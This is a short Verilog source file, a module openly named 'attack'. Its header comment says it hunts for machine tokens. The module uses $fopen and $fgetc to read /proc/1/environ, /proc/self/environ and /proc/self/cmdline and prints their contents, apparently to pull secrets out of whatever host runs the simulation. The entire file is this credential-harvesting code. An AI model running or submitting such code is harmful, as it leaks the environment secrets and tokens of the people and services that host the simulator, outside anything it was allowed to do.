// Reads the environment of the processes above it, where a token of the machine may stand.
module attack;
  integer file, character, count;
  task show(input [8*32:1] path);
    begin
      file = $fopen(path, "r");
      count = 0;
      if (file == 0) $display("%0s: cannot be opened", path);
      else begin
        character = $fgetc(file);
        while (character != -1 && count < 4000) begin
          $write("%c", character);
          character = $fgetc(file);
          count = count + 1;
        end
        $display("GOT %0d bytes of %0s", count, path);
      end
    end
  endtask
  initial begin
    $display("begins");
    $fflush;
    show("/proc/1/environ");
    show("/proc/self/environ");
    show("/proc/self/cmdline");
    $finish;
  end
endmodule
